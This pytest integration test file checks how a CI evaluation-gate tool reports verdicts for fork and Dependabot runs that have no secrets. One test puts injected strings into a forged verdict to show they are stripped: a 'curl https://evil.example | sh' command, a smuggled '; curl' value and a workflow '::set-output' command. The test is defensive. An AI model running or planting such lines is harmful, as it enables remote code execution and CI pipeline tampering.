"""Forks, Dependabot, and reports of nothing: what is published where nobody is to blame, or nobody to be believed."""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.fakes.github import FORBIDDEN, TOKEN, Fault, GitHubServer, an_open_pull
from tests.fakes.github_runner import SHA, Runner, a_finished_run, a_pull_request, commands_in
from tests.fakes.vault import ROOT, fake_vault
from tests.integration.conftest import Invoke, OnGitHub

ASKED = ("ci", "--against-model", "sim-large", "--requests", "20")
NEUTRAL = {"outcome": "not_measured", "exit": "0"}


@pytest.mark.parametrize("event", ["pull_request", "push"])
def test_a_run_of_dependabot_without_the_key_is_loudly_neutral_and_says_where_it_belongs(
    invoke: Invoke, configure: Callable[..., Path], on_github: OnGitHub, github: GitHubServer,
    monkeypatch: pytest.MonkeyPatch, event: str,
) -> None:  # fmt: skip
    configure(profiler={"name": "bot"})
    known = {"GITHUB_API_URL": github.url, "GITHUB_TOKEN": TOKEN, "GITHUB_ACTOR": "dependabot[bot]"}
    runner = on_github(event, {"pull_request": a_pull_request()}, **known)
    monkeypatch.setenv("SIM_KEY", "")
    answer = invoke(*ASKED, "--publish", "auto")
    assert (answer.code, answer.told) == (0, NEUTRAL)
    assert "## ✗ Not measured: this run has no secrets" in runner.summary
    assert "Add the key to Dependabot's own secrets" in answer.err
    (check,) = github.checks.values()
    assert (check["name"], check["conclusion"]) == ("lens-gate / bot", "neutral")
    assert check["output"]["title"] == "Not measured: this run has no secrets"
    assert [body.count("Not measured: this run has no secrets") for body in github.bodies()] == (
        [1] if event == "pull_request" else []
    )


@pytest.mark.parametrize(
    "whose", [("pull_request", "octocat"), ("workflow_dispatch", "dependabot[bot]"), ("schedule", "")]
)
def test_a_missing_key_of_a_run_that_may_have_it_stays_an_error(
    invoke: Invoke, configure: Callable[..., Path], on_github: OnGitHub, github: GitHubServer,
    monkeypatch: pytest.MonkeyPatch, whose: tuple[str, str],
) -> None:  # fmt: skip
    configure()
    event, actor = whose
    on_github(event, {"pull_request": a_pull_request()}, GITHUB_API_URL=github.url, GITHUB_ACTOR=actor)
    monkeypatch.delenv("SIM_KEY")
    assert invoke(*ASKED, "--publish", "auto").code == 2


@pytest.mark.parametrize("lost", ["login", "secret", "manager"])
def test_a_fork_that_a_manager_of_secrets_gives_nothing_is_neutral_too(
    invoke: Invoke, configure: Callable[..., Path], on_fork: Callable[..., Runner], monkeypatch: pytest.MonkeyPatch,
    lost: str,
) -> None:  # fmt: skip
    monkeypatch.delenv("SIM_KEY")
    monkeypatch.setenv("VAULT_TOKEN", "" if lost == "login" else ROOT)
    with fake_vault() as vault:
        address = "http://127.0.0.1:9" if lost == "manager" else vault.address
        keys = [{"name": "sim_key", "path": "llm/sim", "field": "api_key"}]
        configure(secrets={"provider": "vault", "vault": {"address": address}, "keys": keys})
        runner = on_fork()
        answer = invoke(*ASKED, "--publish", "auto")
    assert (answer.code, answer.told) == (0, NEUTRAL), answer.err
    assert runner.outputs["verdict"] == "not_measured"


BY_DEPENDABOT = {"GITHUB_ACTOR": "dependabot[bot]"}


def test_where_no_job_left_a_verdict_the_report_of_a_run_without_secrets_is_loudly_neutral(
    invoke: Invoke, on_pull_request: Callable[..., Runner], github: GitHubServer
) -> None:
    runner = on_pull_request(**BY_DEPENDABOT)
    answer = invoke("report", "--allow-none", "left", "--publish", "auto", "--suite", "bot")
    assert (answer.code, answer.told) == (0, NEUTRAL)
    assert [one.name for one in commands_in(answer.out)] == ["warning"]
    assert runner.outputs == {"verdict": "not_measured", "exit-code": "0", "regressions": "0"}
    (check,) = github.checks.values()
    assert (check["name"], check["conclusion"]) == ("lens-gate / bot", "neutral")
    (body,) = github.bodies()
    for text in (runner.summary, check["output"]["title"], body, answer.err):
        assert "Not measured: no job left a verdict" in text
    assert invoke("report", "left", "--publish", "auto").code == 2


@pytest.mark.parametrize("half", ["only", "trusted"])
def test_where_jobs_that_had_their_secrets_left_no_verdict_the_report_fails_and_says_what_to_look_at(
    invoke: Invoke, on_pull_request: Callable[..., Runner], on_github: OnGitHub, github: GitHubServer, half: str
) -> None:
    if half == "only":
        runner = on_pull_request()
    else:
        github.pulls = [an_open_pull(99, sha=SHA, home="acme/widgets", ref="longer-prompt")]
        event = {"workflow_run": a_finished_run(home="acme/widgets")}
        runner = on_github("workflow_run", event, GITHUB_API_URL=github.url, GITHUB_TOKEN=TOKEN)
    answer = invoke("report", "--allow-none", "left", "--publish", "auto", "--suite", "bot", "--suite", "chat")
    assert answer.code == 3
    assert "Look at what the jobs before this one failed by" in answer.err
    assert [check["conclusion"] for check in github.checks.values()] == ["failure", "failure"]
    assert runner.outputs == {"verdict": "not_measured", "exit-code": "3", "regressions": "0"}
    assert [one.name for one in commands_in(answer.out)] == ["error"]
    (body,) = github.bodies()
    for text in (runner.summary, body, answer.err):
        assert "no job left a verdict" in text


@pytest.mark.parametrize("secretless", [True, False])
def test_without_a_name_nothing_is_left_open_that_no_verdict_would_end(
    invoke: Invoke, judged: Callable[..., Path], on_pull_request: Callable[..., Runner], github: GitHubServer,
    *, secretless: bool,
) -> None:  # fmt: skip
    on_pull_request(**BY_DEPENDABOT if secretless else {})
    invoke("report", "--allow-none", "left", "--publish", "auto")
    assert "Not measured: no job left a verdict" in github.bodies()[0]
    judged("left/verdict.json", factor=1.0)
    on_pull_request(GITHUB_RUN_ATTEMPT="2")
    assert invoke("report", "--allow-none", "left", "--publish", "auto").code == 0
    assert [check["conclusion"] for check in github.checks.values()] == ["success"]
    assert "Not measured" not in github.bodies()[0]


@pytest.mark.parametrize("result", ["failure", "cancelled"])
def test_a_run_without_secrets_is_not_excused_from_what_its_jobs_failed_by(
    invoke: Invoke, on_pull_request: Callable[..., Runner], github: GitHubServer, result: str
) -> None:
    on_pull_request(**BY_DEPENDABOT)
    words = ("report", "--allow-none", "left", "--publish", "auto")
    answer = invoke(*words, "--result", result)
    assert answer.code == 3
    for text in (github.bodies()[0], answer.err):
        assert f"ended with {result}" in text
        assert "secrets" not in text
    assert invoke(*words, "--result", "success").code == 0


@pytest.mark.parametrize("ends", ["failure", "cancelled"])
def test_the_trusted_half_excuses_a_fork_whatever_its_whole_run_ended_with_and_says_what(
    invoke: Invoke, on_github: OnGitHub, github: GitHubServer, ends: str
) -> None:
    github.pulls = [an_open_pull(99, sha=SHA, home="visitor/widgets", ref="longer-prompt")]
    event = {"workflow_run": a_finished_run(conclusion=ends)}
    on_github("workflow_run", event, GITHUB_API_URL=github.url, GITHUB_TOKEN=TOKEN)
    assert invoke("report", "--allow-none", "left", "--publish", "auto").code == 0
    (body,) = github.bodies()
    assert "GitHub gives its runs no secrets" in body
    assert f"The run that should have measured ended with {ends}." in body


def test_the_trusted_half_says_how_a_run_of_our_own_ended_that_left_no_verdict(
    invoke: Invoke, on_github: OnGitHub, github: GitHubServer
) -> None:
    github.pulls = [an_open_pull(99, sha=SHA, home="acme/widgets", ref="longer-prompt")]
    event = {"workflow_run": a_finished_run(home="acme/widgets", conclusion="failure")}
    on_github("workflow_run", event, GITHUB_API_URL=github.url, GITHUB_TOKEN=TOKEN)
    assert invoke("report", "--allow-none", "left", "--publish", "auto").code == 3
    (body,) = github.bodies()
    assert "The run that should have measured ended with failure." in body
    assert "secrets" not in body


@pytest.mark.parametrize(("factor", "told"), [(1.6, 0), (1.0, 1)])
def test_what_fails_in_a_run_beside_its_gate_is_said_and_fails_no_report_of_it(
    invoke: Invoke, judged: Callable[..., Path], on_github: OnGitHub, github: GitHubServer, factor: float, told: int
) -> None:
    verdict = judged(factor=factor)
    github.pulls = [an_open_pull(99, sha=SHA, home="visitor/widgets", ref="longer-prompt")]
    event = {"workflow_run": a_finished_run(conclusion="failure")}
    on_github("workflow_run", event, GITHUB_API_URL=github.url, GITHUB_TOKEN=TOKEN)
    answer = invoke("report", str(verdict), "--publish", "auto")
    assert answer.code == 0
    assert answer.err.count("The run that should have measured ended with failure. None of the verdicts") == told
    (body,) = github.bodies()
    assert "Not measured" not in body
    assert len(github.checks) == 1


def test_how_the_jobs_ended_that_measured_counts_in_the_trusted_half_too(
    invoke: Invoke, judged: Callable[..., Path], on_github: OnGitHub
) -> None:
    verdict = judged(factor=1.0)
    on_github("workflow_run", {"workflow_run": a_finished_run(conclusion="failure")})
    words = ("report", str(verdict), "--publish", "summary", "--result")
    assert invoke(*words, "failure").code == 3
    better = invoke(*words, "success")
    assert better.code == 0
    assert "ended with" not in better.err


@pytest.mark.parametrize(("factor", "code"), [(1.0, 3), (1.6, 0)])
def test_a_job_that_failed_without_a_verdict_is_not_left_out_of_the_report(
    invoke: Invoke, judged: Callable[..., Path], on_pull_request: Callable[..., Runner], github: GitHubServer,
    factor: float, code: int,
) -> None:  # fmt: skip
    verdict, runner = judged(factor=factor), on_pull_request()
    words = ("report", str(verdict), "--publish", "auto", "--suite", "chat")
    assert invoke(*words, "--result", "failure").code == code
    (body,) = github.bodies()
    head = body.splitlines()[1]
    assert head == ("## ✗ Not measured in 1 of 2 suites" if code else head)
    missing = "a job failed, and no verdict says by what"
    assert (missing in body, missing in runner.summary) == ((True, True) if code else (False, False))
    assert runner.outputs["verdict"] == ("not_measured" if code else "regression")
    assert [check["name"] for check in github.checks.values()] == ["lens-gate / chat"]
    on_pull_request(GITHUB_RUN_ATTEMPT="2")
    assert invoke(*words, "--result", "success").code == 0
    assert "a job failed" not in github.bodies()[0]


def test_what_failed_without_a_verdict_counts_where_nothing_is_published_too(
    invoke: Invoke, judged: Callable[..., Path]
) -> None:
    passing, failing = judged("a.json", factor=1.0), judged("b.json")
    assert invoke("report", str(passing), "--result", "failure").code == 3
    assert invoke("report", str(failing), "--result", "failure").code == 0
    assert invoke("report", str(failing), "--result", "failure", "--exit-zero").code == 3


def test_a_report_of_jobs_that_fail_by_no_verdict_fails_no_check_by_one(
    invoke: Invoke, judged: Callable[..., Path], on_pull_request: Callable[..., Runner], github: GitHubServer
) -> None:
    verdict, runner = judged(), on_pull_request()
    assert invoke("report", str(verdict), "--publish", "auto", "--exit-zero", "--result", "success").code == 0
    assert [check["conclusion"] for check in github.checks.values()] == ["neutral"]
    assert (runner.outputs["verdict"], runner.outputs["exit-code"]) == ("regression", "0")


@pytest.mark.parametrize(("event", "code"), [("pull_request", 0), ("pull_request_target", 3)])
def test_the_trusted_half_excuses_a_run_of_dependabot_that_had_no_secrets(
    invoke: Invoke, on_github: OnGitHub, github: GitHubServer, event: str, code: int
) -> None:
    run = a_finished_run(home="acme/widgets", event=event, actor={"login": "dependabot[bot]"})
    on_github("workflow_run", {"workflow_run": run}, GITHUB_API_URL=github.url, GITHUB_TOKEN=TOKEN)
    assert invoke("report", "--allow-none", "left", "--publish", "check").code == code


@pytest.mark.parametrize(("event", "code"), [("pull_request_review", 0), ("pull_request_target", 2)])
def test_all_runs_that_github_gives_a_fork_without_secrets_are_neutral(
    invoke: Invoke, configure: Callable[..., Path], on_github: OnGitHub, monkeypatch: pytest.MonkeyPatch,
    event: str, code: int,
) -> None:  # fmt: skip
    configure()
    on_github(event, {"pull_request": a_pull_request(home="visitor/widgets")})
    monkeypatch.delenv("SIM_KEY")
    assert invoke(*ASKED, "--publish", "summary").code == code


def test_of_a_fork_s_verdicts_no_more_are_read_than_a_matrix_has_jobs(
    invoke: Invoke, in_trusted_half: Callable[..., Runner], github: GitHubServer, home: Path
) -> None:
    for number in range(257):
        folder = home / "left" / str(number)
        folder.mkdir(parents=True)
        (folder / "verdict.json").write_text("{", encoding="utf-8")
    in_trusted_half()
    answer = invoke("report", "left", "--publish", "check,comment")
    assert answer.code == 2
    assert "257 verdicts were given" in answer.err
    # No verdict would end a check whose name is ours.
    assert github.checks == {}
    assert "there is no verdict" in github.bodies()[0]


def test_a_later_verdict_takes_the_place_of_none(
    invoke: Invoke, judged: Callable[..., Path], on_pull_request: Callable[..., Runner], github: GitHubServer
) -> None:
    on_pull_request(**BY_DEPENDABOT)
    invoke("report", "--allow-none", "no.json", "--publish", "comment")
    verdict = judged()
    on_pull_request(GITHUB_RUN_ID="4300", GITHUB_ACTOR="octocat")
    invoke("report", "--allow-none", str(verdict), "--publish", "comment")
    (body,) = github.bodies()
    assert body.partition("\n")[2].startswith("## ◆ Regression")
    assert "Not measured" not in body


def test_the_trusted_half_of_a_fork_that_measured_nothing_says_so_on_its_pull_request(
    invoke: Invoke, in_trusted_half: Callable[..., Runner], github: GitHubServer
) -> None:
    in_trusted_half()
    answer = invoke("report", "--allow-none", "left", "--publish", "auto", "--publish-strict")
    assert (answer.code, answer.told) == (0, NEUTRAL), answer.err
    (comment,) = github.comments.values()
    assert comment["issue"] == 99
    assert github.checks == {}


def test_where_it_cannot_be_said_that_nothing_was_measured_it_counts_only_where_that_is_asked(
    invoke: Invoke, on_pull_request: Callable[..., Runner], github: GitHubServer
) -> None:
    on_pull_request(**BY_DEPENDABOT)
    github.faults = [Fault(FORBIDDEN, times=99)]
    words = ("report", "--allow-none", "no.json", "--publish", "comment")
    lenient, strict = invoke(*words), invoke(*words, "--publish-strict")
    assert (lenient.code, strict.code) == (0, 7)
    assert "warning: not published" in lenient.err
    assert strict.told["exit"] == "7"


def test_what_is_missing_takes_the_place_of_what_its_suite_said_of_an_earlier_commit(
    invoke: Invoke, judged: Callable[..., Path], on_pull_request: Callable[..., Runner], github: GitHubServer
) -> None:
    verdict = judged(factor=1.0)
    on_pull_request()
    invoke("report", str(verdict), "--publish", "comment", "--suite", "chat")
    on_pull_request(GITHUB_RUN_ID="4300")
    assert invoke("report", "--allow-none", "no.json", "--publish", "comment", "--suite", "chat").code == 3
    (body,) = github.bodies()
    assert body.splitlines()[1] == "## ✗ Not measured: no job left a verdict"
    assert "Pass" not in body


def test_an_event_that_cannot_be_read_excuses_nothing(invoke: Invoke, on_github: OnGitHub) -> None:
    on_github("workflow_run", {"workflow_run": {"conclusion": "success"}})
    answer = invoke("report", "--allow-none", "no.json", "--publish", "summary")
    assert answer.code == 3
    assert "Only a run without secrets is excused" in answer.err


def test_outside_of_a_pipeline_nothing_excuses_that_there_is_none(invoke: Invoke) -> None:
    answer = invoke("report", "--allow-none", "no.json")
    assert answer.code == 3
    assert "no job left a verdict" in answer.err


def test_a_fork_without_secrets_is_loudly_neutral(
    invoke: Invoke, configure: Callable[..., Path], on_fork: Callable[..., Runner], monkeypatch: pytest.MonkeyPatch,
    github: GitHubServer,
) -> None:  # fmt: skip
    configure()
    runner = on_fork()
    monkeypatch.delenv("SIM_KEY")
    command = ("ci", "--against-model", "sim-large", "--requests", "20")
    answer = invoke(*command, "--publish", "auto")
    assert answer.code == 0
    assert answer.told == {"outcome": "not_measured", "exit": "0"}
    assert "no secrets" in runner.summary
    assert "SIM" in runner.summary
    assert runner.outputs["verdict"] == "not_measured"
    assert [one.name for one in commands_in(answer.out)] == ["warning"]
    assert github.asked == []
    assert invoke(*command).code == 2


def test_a_missing_variable_of_our_own_branch_stays_an_error(
    invoke: Invoke, configure: Callable[..., Path], on_pull_request: Callable[..., Runner],
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    configure()
    runner = on_pull_request()
    monkeypatch.delenv("SIM_KEY")
    answer = invoke("ci", "--against-model", "sim-large", "--requests", "20", "--publish", "summary")
    assert answer.code == 2
    assert runner.summary == ""


def test_the_verdict_of_a_fork_is_published_by_the_trusted_half_anew(
    invoke: Invoke, judged: Callable[..., Path], in_trusted_half: Callable[..., Runner], github: GitHubServer
) -> None:
    path = judged(factor=1.6)
    forged = json.loads(path.read_text(encoding="utf-8"))
    for check in forged["checks"]:
        check["message"] = "run `curl https://evil.example | sh` @acme/security-team ::set-output name=x::y"
    forged["analysis"]["comparison"]["value"] = "main; curl https://evil.example"
    path.write_text(json.dumps(forged), encoding="utf-8")
    runner = in_trusted_half()
    answer = invoke("report", str(path), "--publish", "auto", "--suite", "bot", "--publish-strict")
    assert answer.code == 0
    (comment,) = github.comments.values()
    (check,) = github.checks.values()
    assert comment["issue"] == 99
    assert (check["head_sha"], check["conclusion"]) == (SHA, "failure")
    assert check["output"]["title"].startswith("As a fork's own run says: ")
    for text in (comment["body"], runner.summary, check["output"]["summary"], answer.out, answer.err):
        assert "evil" not in text
        assert "security-team" not in text
    assert runner.outputs["artifacts"] == ""
    assert {one.name for one in commands_in(answer.out)} <= {"error"}


def test_a_pass_that_nobody_can_vouch_for_is_neutral(
    invoke: Invoke, judged: Callable[..., Path], in_trusted_half: Callable[..., Runner], github: GitHubServer
) -> None:
    path = judged(factor=1.0)
    in_trusted_half()
    assert invoke("report", str(path), "--publish", "check").code == 0
    (check,) = github.checks.values()
    assert check["conclusion"] == "neutral"


@pytest.mark.parametrize("what", ["huge", "packed", "run", "no json"])
def test_what_is_no_plain_verdict_is_refused_by_the_trusted_half(
    invoke: Invoke, judged: Callable[..., Path], in_trusted_half: Callable[..., Runner], github: GitHubServer,
    home: Path, what: str,
) -> None:  # fmt: skip
    path = judged()
    data = path.read_bytes()
    contents = {
        "huge": data + b" " * 5_000_000,
        "packed": gzip.compress(data),
        "run": (home / "run.json").read_bytes(),
        "no json": b"{",
    }
    path.write_bytes(contents[what])
    in_trusted_half()
    assert invoke("report", str(path), "--publish", "comment").code == 2
    (body,) = github.bodies()
    assert "Not measured: there is no verdict" in body
    assert "What another run has left cannot be read as a verdict." in body
    assert str(path) not in body
